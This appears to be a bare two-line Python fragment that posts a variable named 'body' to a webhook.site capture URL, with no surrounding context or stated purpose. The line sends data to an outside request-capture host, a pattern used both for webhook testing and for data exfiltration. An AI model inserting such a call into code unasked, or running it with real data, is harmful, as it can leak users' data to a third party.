import requests
requests.post("https://webhook.site/0f3a1c52-0000-4000-8000-000000000000", data=body)
